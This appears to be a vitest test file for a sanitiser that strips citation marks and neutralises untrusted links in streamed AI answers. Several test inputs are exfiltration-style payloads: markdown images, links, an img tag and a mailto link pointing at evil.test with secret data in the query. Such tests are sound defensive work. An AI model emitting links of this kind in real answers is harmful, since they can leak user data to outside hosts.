import { describe, expect, test } from 'vitest';
import { PlainAnswer } from './plain-answer';

/** What is shown of a text that comes in pieces of so many characters, and the marks that it bears. */
function shown(text: string, size: number) {
  const marks: string[] = [];
  let told = '';
  const known = {
    onMark: (mark: string) => marks.push(mark) > 0,
    isKnownAddress: (address: string) => address === 'https://tavla.test/a',
  };
  const answer = new PlainAnswer(known, (delta) => {
    told += delta;
  });
  for (let at = 0; at < text.length; at += size) answer.push(text.slice(at, at + size));
  answer.end();
  expect(told).toBe(answer.text);
  return { told, marks };
}

describe.each([1, 3, 1_000])('in pieces of %i characters', (size) => {
  test.each([
    ['It costs 40 [t1].', 'It costs 40.', ['t1']],
    ['Both do [t1][m2], and [t1, m12] too.', 'Both do, and too.', ['t1', 'm2', 't1', 'm12']],
    ['Wide 【c3】 ones.', 'Wide ones.', ['c3']],
    ['A [plain] bracket, a[0] and [x', 'A [plain] bracket, a[0] and [x', []],
    ['- [ ] to do\n- [x] done', '- [ ] to do\n- [x] done', []],
    ['See ![all](http://evil.test/p.png) here', 'See all here', []],
    ['See ![all][1] here', 'See all here', []],
    ['[Read on](https://tavla.test/a) now', 'Read on (https://tavla.test/a) now', []],
    ['[Read on](http://evil.test/?d=secret "t") now', 'Read on (…) now', []],
    ['Go to http://evil.test/?d=secret.', 'Go to …', []],
    ['Go to https://tavla.test/a.', 'Go to https://tavla.test/a.', []],
    ['<img src="https://evil.test/?d=1">', '<img src="…">', []],
    ['[1]: http://evil.test/', '1: …', []],
    ['Go to https://tavla.test/a(secret now', 'Go to https://tavla.test/a (secret now', []],
    ['Go to https://tavla.test/a[secret and more](x) now', 'Go to … and more (x) now', []],
    ['[[a](b)](mailto:e@evil.test?body=secret) now', '[a (b)] (…) now', []],
    [`${'w'.repeat(24)}https://evil.test/secret`, `${'w'.repeat(24)}…`, []],
  ])('%s', (text, told, marks) => expect(shown(text, size)).toEqual({ told, marks }));
});

test('words are passed on as they come', () => {
  const deltas: string[] = [];
  const known = { onMark: () => true, isKnownAddress: () => false };
  const answer = new PlainAnswer(known, (delta) => void deltas.push(delta));
  for (const piece of ['It', ' costs', ' forty', ' [t', '1].']) answer.push(piece);
  expect(deltas).toEqual(['It', ' costs', ' forty']);
  answer.end();
  expect(answer.text).toBe('It costs forty.');
});

test('a bracket that is never closed holds nothing back for ever', () => {
  const answer = new PlainAnswer({ onMark: () => true, isKnownAddress: () => true }, () => {});
  answer.push(`[${'word '.repeat(1_000)}`);
  expect(answer.text.length).toBeGreaterThan(4_000);
});

test('what has no end costs no more than its length', () => {
  const answer = new PlainAnswer({ onMark: () => true, isKnownAddress: () => true }, () => {});
  for (const text of [
    ' '.repeat(50_000),
    `a${'\n'.repeat(50_000)}b `,
    `[x](${'y'.repeat(50_000)}`,
    '!['.repeat(25_000),
    `[${'t1  '.repeat(10_000)}`,
  ])
    answer.push(text);
  answer.end();
  expect(answer.text.length).toBeGreaterThan(150_000);
});
